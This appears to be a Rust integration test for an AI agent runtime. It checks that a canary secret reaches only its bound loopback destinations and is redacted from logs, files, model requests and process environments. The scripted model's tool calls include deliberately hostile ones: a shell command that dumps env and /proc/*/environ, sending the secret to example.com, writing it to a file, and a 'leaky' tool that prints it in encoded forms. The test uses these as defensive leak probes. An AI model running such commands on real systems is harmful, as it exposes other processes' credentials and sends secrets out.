//! A canary goes through every lane that takes a secret, arrives where it is bound to, and is found nowhere else: not
//! in a file, a log, a frame, an error, a request to the model or another process.

use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::sync::{Arc, Mutex};

use are_testkit::provider::Reply;
use are_testkit::run;
use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE};
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpListener;

use crate::cli_stage::Stage;
use crate::fixture_socket::Socket;

const CANARY: &str = "c4n4ry/S3CR3T+value=0123456789&abcdef";

/// A server on loopback that hears requests and repeats all of each, in several encodings.
struct Echo {
    port: u16,
    heard: Arc<Mutex<Vec<String>>>,
}

impl Echo {
    async fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").await.expect("a port");
        let port = listener.local_addr().expect("an address").port();
        let heard: Arc<Mutex<Vec<String>>> = Arc::default();
        let log = Arc::clone(&heard);
        tokio::spawn(async move {
            while let Ok((mut stream, _)) = listener.accept().await {
                let log = Arc::clone(&log);
                tokio::spawn(async move {
                    let mut bytes = vec![0; 16 << 10];
                    let mut length = 0;
                    loop {
                        let read = stream.read(&mut bytes[length..]).await.unwrap_or(0);
                        length += read;
                        let text = String::from_utf8_lossy(&bytes[..length]).into_owned();
                        let is_whole = text.split_once("\r\n\r\n").is_some_and(|(head, body)| {
                            let head = head.to_ascii_lowercase();
                            let wanted = head
                                .split("content-length: ")
                                .nth(1)
                                .and_then(|rest| rest.lines().next()?.parse().ok());
                            body.len() >= wanted.unwrap_or(0)
                        });
                        if is_whole || read == 0 {
                            log.lock().expect("log").push(text.clone());
                            let body = format!(
                                "{text}\n{}\n{}\n{}",
                                STANDARD.encode(&text),
                                hex(&text),
                                json!({"said": text})
                            );
                            let head = format!(
                                "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: {}\r\nX-Echo: {CANARY}\r\n\r\n",
                                body.len()
                            );
                            // The client may have had enough before the end.
                            stream.write_all(format!("{head}{body}").as_bytes()).await.ok();
                            return;
                        }
                    }
                });
            }
        });
        Self { port, heard }
    }

    fn heard(&self) -> Vec<String> {
        self.heard.lock().expect("log").clone()
    }
}

fn hex(text: &str) -> String {
    text.bytes().map(|byte| format!("{byte:02x}")).collect()
}

/// What must be found nowhere: the canary, and what of its encodings it decides alone.
fn forbidden() -> Vec<String> {
    let inner = |text: String, from: usize| text[from..text.len() - 4].to_owned();
    let mut all = vec![CANARY.to_owned(), hex(CANARY), hex(CANARY).to_uppercase(), "S3CR3T".to_owned()];
    for (before, from) in [("", 0), ("x", 2), ("xy", 3)] {
        all.push(inner(STANDARD.encode(format!("{before}{CANARY}")), from));
        all.push(inner(URL_SAFE.encode(format!("{before}{CANARY}")), from));
    }
    all.push("c4n4ry%2FS3CR3T%2Bvalue".to_owned());
    all.push("c4n4ry\\/S3CR3T".to_owned());
    all
}

#[track_caller]
fn must_be_clean(what: &str, bytes: &[u8]) {
    for form in forbidden() {
        let at = bytes.windows(form.len()).position(|window| window == form.as_bytes());
        if let Some(at) = at {
            let around = &bytes[at.saturating_sub(80)..(at + form.len() + 20).min(bytes.len())];
            panic!("{what} holds `{form}`: …{}…", String::from_utf8_lossy(around));
        }
    }
}

fn search(dir: &Path, searched: &mut usize) {
    for entry in std::fs::read_dir(dir).expect("readable").flatten() {
        let kind = entry.file_type().expect("a kind");
        if kind.is_dir() {
            search(&entry.path(), searched);
        } else if kind.is_file() {
            must_be_clean(&entry.path().display().to_string(), &std::fs::read(entry.path()).expect("readable"));
            *searched += 1;
        }
    }
}

/// The calls of the model, one a step: each lane, then what must be refused.
fn calls(port: u16) -> Vec<(&'static str, Value)> {
    let url = |path: &str| format!("http://127.0.0.1:{port}{path}");
    let bearer = json!({"Authorization": "Bearer ${secret:canary}"});
    vec![
        ("http_request", json!({"url": url("/header"), "headers": bearer})),
        ("http_request", json!({"url": url("/query?k=${secret:canary}")})),
        ("http_request", json!({"url": url("/body"), "method": "POST", "body": {"k": "${secret:canary}"}})),
        ("talk", json!({"id": "7"})),
        ("script_ping", json!({"url": url("/script")})),
        ("leaky", json!({})),
        ("process_run", json!({"shell": "env; cat /proc/*/environ | tr '\\0' '\\n'; cat /proc/*/cmdline"})),
        ("http_request", json!({"url": "http://127.0.0.1:9/", "headers": bearer})),
        ("http_request", json!({"url": "https://example.com/", "headers": bearer})),
        ("http_request", json!({"url": url("/${secret:canary}")})),
        ("fs_write", json!({"path": "leak.txt", "content": "${secret:canary}"})),
        ("variable_set", json!({"name": "leak", "value": "${secret:canary}"})),
        ("process_run", json!({"argv": ["echo", "${secret:canary}"]})),
        ("http_request", json!({"url": url("/other"), "headers": {"A": "${secret:unknown}"}})),
        ("secret_disclose", json!({"name": "canary"})),
    ]
}

fn tools(stage: &Stage, port: u16) {
    let talk = format!(
        "lane = \"http\"\ndescription = \"Talks.\"\nurl = \"http://127.0.0.1:{port}/talk/{{id}}\"\n\
         headers.Authorization = \"Bearer ${{secret:canary}}\"\n[args.id]\nrole = \"selector\"\n"
    );
    let leaky = "lane = \"command\"\ndescription = \"Leaks.\"\ncapabilities.env.CANARY = \"secret:canary\"\n\
         argv = [\"/bin/sh\", \"-c\", \"printf '%s\\\\n' \\\"$CANARY\\\"; printf '%s' \\\"$CANARY\\\" | base64 -w0; echo; \
         printf 'x%s' \\\"$CANARY\\\" | base64 -w0; echo; printf '%s' \\\"$CANARY\\\" | od -An -v -tx1 | tr -d ' \\\\n'; \
         echo \\\"$CANARY\\\" >&2; for i in 1 2 3; do printf 'c4n4ry/S3CR'; sleep 0.05; printf '3T+value=0123456789&abcdef'; done\"]\n";
    let script = "module.exports = {\n  /**\n   * Pings.\n   * @effect network_read\n   * @role url destination\n   */\n  async ping(url) {\n    \
         console.log('pinging');\n    const r = await fetch(url, { headers: { Authorization: 'Bearer ${secret:canary}' } });\n    \
         return r;\n  }\n};\n";
    stage.write(".local/share/are/tools/talk.toml", &talk);
    stage.write(".local/share/are/tools/leaky.toml", leaky);
    stage.write(".local/share/are/tools/script.js", script);
}

/// The environments and command lines of this user's processes, the tests' own aside.
fn processes() -> Vec<(PathBuf, Vec<u8>)> {
    let own = std::process::id().to_string();
    let entries = std::fs::read_dir("/proc").expect("/proc").flatten();
    let pids = entries.filter(|entry| entry.file_name().to_string_lossy().bytes().all(|byte| byte.is_ascii_digit()));
    let others = pids.filter(|entry| entry.file_name().to_string_lossy() != own);
    others
        .flat_map(|entry| ["environ", "cmdline"].map(|name| entry.path().join(name)))
        .filter_map(|path| std::fs::read(&path).ok().map(|bytes| (path, bytes)))
        .collect()
}

#[tokio::test]
async fn a_canary_arrives_where_it_is_bound_to_and_is_found_nowhere_else() {
    let echo = Echo::start().await;
    let mut stage = Stage::new().await;
    let project = stage.project().display().to_string();
    stage
        .set("ARE_POLICY", "observe")
        .set("ARE_WORKSPACE", &project)
        .set("ARE_LOG", "trace")
        .set("RUST_BACKTRACE", "1");
    stage.set("ARE_EGRESS_PRIVATE", &format!("127.0.0.1:{},127.0.0.1:9", echo.port));
    tools(&stage, echo.port);
    let to = format!("127.0.0.1:{}", echo.port);
    let set = stage
        .run_with(&["secret", "set", "canary", "--to", &to, "--to", "127.0.0.1:9", "--env", "leaky"], CANARY)
        .await;
    must_be_clean("the verb", format!("{}{}", set.stdout, set.stderr).as_bytes());
    set.exits(0);

    let log = stage.home().join("server.log");
    let file = std::fs::File::create(&log).expect("a log");
    let mut server = stage
        .command(&["start", "--port", "0", "--json"])
        .stderr(Stdio::from(file))
        .spawn()
        .expect("the program starts");
    let mut stdout = tokio::io::BufReader::new(server.stdout.take().expect("a pipe"));
    let mut line = String::new();
    tokio::io::AsyncBufReadExt::read_line(&mut stdout, &mut line).await.expect("a ready line");
    let ready: Value = serde_json::from_str(&line).expect("JSON");
    let port = echo.port;
    let wanted = calls(port);
    let steps = wanted.len();
    stage.provider().default_reply(move |request| {
        let messages = request["messages"].as_array().expect("messages");
        let asked = messages.iter().rposition(|message| message["role"] == "user").expect("a prompt");
        let done = messages[asked..].iter().filter(|message| message["role"] == "tool").count();
        match wanted.get(done) {
            Some((tool, args)) => Reply::call(tool, args),
            None => Reply::text(["it is c4n4ry/S3", "CR3T+value=0123456789&a", "bcdef, or not"]),
        }
    });
    let admin = std::fs::read_to_string(stage.data_dir().join("admin.token")).expect("a token").trim().to_owned();
    let mut socket = Socket::open(ready["address"].as_str().expect("an address"), &admin).await;
    socket.send(&json!({"type": "prompt", "content": "use the secret canary everywhere"})).await;
    let seen = socket.collect("turn_completed").await;
    let session = seen[0]["session"].as_str().expect("a key").to_owned();

    // It did arrive, by every lane.
    let heard = echo.heard();
    for path in ["/header", "/query?k=", "/body", "/talk/7", "/script"] {
        let one = heard
            .iter()
            .find(|request| request.contains(path))
            .unwrap_or_else(|| panic!("{path}: {heard:?}\n{seen:#?}"));
        assert!(one.contains(CANARY) || one.contains("c4n4ry%2FS3CR3T"), "{path}: {one}");
    }
    let of = |kind: &str| seen.iter().filter(|event| event["type"] == kind).collect::<Vec<_>>();
    let has_commands = of("tool_completed").iter().any(|event| event["result"]["stdout"].is_string());
    if has_commands {
        let leaked: Vec<_> = of("tool_completed").iter().map(|event| event["result"].to_string()).collect();
        assert!(leaked.iter().any(|result| result.matches("[secret removed]").count() >= 7), "{leaked:#?}");
    } else {
        run::skip("no cage holds here, so that no command was given the canary".to_owned());
    }
    assert!(of("tool_requested").len() >= steps, "all were made");
    let codes: Vec<_> = of("tool_failed").iter().filter_map(|event| event["error"]["code"].as_str()).collect();
    for code in ["ARE-0802", "ARE-0804", "ARE-0805"] {
        assert!(codes.contains(&code), "{codes:?}");
    }
    // Nobody else has it.
    let words: String = seen.iter().filter_map(|frame| frame.as_array()?.last()?.as_str()).collect();
    assert_eq!(words, "it is [secret removed], or not");
    for kind in ["tool_output", "reasoning"] {
        let text: String = of(kind).iter().filter_map(|event| event["text"].as_str()).collect();
        must_be_clean(kind, text.as_bytes());
    }
    must_be_clean("frames", json!(seen).to_string().as_bytes());
    must_be_clean("requests to the model", format!("{:?}", stage.provider().requests()).as_bytes());
    let looked = processes();
    assert!(!looked.is_empty());
    looked.iter().for_each(|(path, bytes)| must_be_clean(&path.display().to_string(), bytes));
    let mut searched = 0;
    search(stage.home(), &mut searched);

    // Killed, and started again.
    server.kill().await.expect("it can be killed");
    search(stage.home(), &mut searched);
    for args in [
        vec!["session", "events", "--json", &session],
        vec!["session", "export", &session],
        vec!["session", "replay", "--json", &session],
        vec!["session", "show", "--json", &session],
        vec!["secret", "list", "--json"],
        vec!["var", "list", "--json", "--session", &session],
        vec!["tool", "show", "leaky"],
        vec!["config", "show", "--json"],
    ] {
        let ran = stage.run(&args).await.exits(0);
        must_be_clean(&args.join(" "), format!("{}{}", ran.stdout, ran.stderr).as_bytes());
    }
    let used = std::fs::read(stage.data_dir().join("are.db")).expect("the store");
    let uses = used.windows(11).filter(|window| window == b"secret_used").count();
    assert!(uses >= 5, "each use is in the journal: {uses}");
    search(stage.home(), &mut searched);
    let logged = std::fs::metadata(&log).expect("the log").len();
    assert!(logged > 10_000, "the log says much: {logged}");
    println!("{searched} files, {} processes' texts, {logged} bytes of log searched", looked.len());
}
